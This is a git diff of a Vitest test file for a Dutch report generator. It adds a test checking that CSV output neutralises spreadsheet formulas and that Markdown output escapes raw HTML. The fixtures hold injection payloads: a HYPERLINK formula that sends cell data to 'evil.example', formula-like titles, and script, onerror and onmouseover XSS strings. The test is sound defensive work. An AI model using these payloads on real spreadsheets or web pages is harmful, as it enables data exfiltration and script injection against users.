@@ -1,3 +1,6 @@
+import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { describe, expect, test } from 'vitest'
 import { main } from '../src/main.js'
@@ -63,7 +66,7 @@ describe('report', { timeout: 30_000 }, () => {
       ['Presentiebenadering', 'goed beschreven', '(Baart, 2001)', '1'],
       ['Driepartijenoverleg', 'niet vermeld', '—', '1']
     ])
-    expect(r.out).toContain('- **Presentiebenadering** (goed beschreven): Beschreven (Baart & anderen); effect <niet> onderzocht.')
+    expect(r.out).toContain('- **Presentiebenadering** (goed beschreven): Beschreven (Baart & anderen); effect &lt;niet> onderzocht.')
   })
 
   test('should list practices and methods without literature, and whether a method backs the practice', async () => {
@@ -140,6 +143,36 @@ describe('report', { timeout: 30_000 }, () => {
     const html = (await run('report', '--format', 'html')).out
     expect(html).toContain('<td>Beschreven (Baart &amp; anderen); effect &lt;niet&gt; onderzocht.</td>')
     expect(html).not.toContain('<niet>')
+  })
+
+  // A title can come from a third party's RIS or BibTeX file through `cite import` (F23).
+  test('should keep formulas out of the CSV and raw HTML out of the Markdown', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'praktijkwijzer-report-'))
+    try {
+      cpSync(`${fixtures}library`, join(dir, 'lib'), { recursive: true })
+      writeFileSync(
+        join(dir, 'lib', 'methodieken', 'Formule.md'),
+        '---\ntype: methodiek\ntitle: \'=HYPERLINK("http://evil.example/?x="&A1,"klik")\'\nbron: ["2.3"]\nbewijs: veelbelovend\nbewijstoelichting: "<img src=x onerror=alert(1)>"\nliteratuur: ["[[Kwaad 2020]]"]\n---\n# Formule\n'
+      )
+      writeFileSync(join(dir, 'lib', 'praktijken', 'Min.md'), '---\ntype: praktijk\ntitle: "-2+3"\nbron: ["2.3"]\n---\n# Min\n')
+      writeFileSync(join(dir, 'lib', 'praktijken', 'At.md'), '---\ntype: praktijk\ntitle: "@SUM(A1)"\nbron: ["2.3"]\n---\n# At\n')
+      writeFileSync(join(dir, 'lib', 'literatuur', 'Kwaad 2020.md'), '---\ntype: literatuur\nbron: ["2.3"]\nauteurs: ["Kwaad, K."]\njaar: 2020\ntitel: "<script>alert(1)</script>"\nsoort: boek\n---\n# Kwaad 2020\n')
+      writeFileSync(join(dir, 'lib', 'literatuur', 'Los 2021.md'), '---\ntype: literatuur\nbron: ["2.3"]\nauteurs: ["Los, L."]\njaar: 2021\ntitel: "<b onmouseover=alert(1)>los</b>"\nsoort: boek\ndoi: "10.1000/x"\n---\n# Los 2021\n')
+      const table = csv((await run('report', join(dir, 'lib'), '--format', 'csv')).out)
+      const titles = table.map((row) => row[1] ?? '')
+      expect(titles).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"klik")`)
+      expect(titles).toContain("'-2+3")
+      expect(titles).toContain("'@SUM(A1)")
+      for (const cell of table.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
+
+      const md = (await run('report', join(dir, 'lib'))).out
+      expect(md).not.toMatch(/<(?:script|img|b)\b/)
+      expect(md).toContain('&lt;img src=x onerror=alert(1)>')
+      // Links stay links.
+      expect(md).toContain('<https://doi.org/10.1000/x>')
+    } finally {
+      rmSync(dir, { recursive: true, force: true })
+    }
   })
 
   test.each([
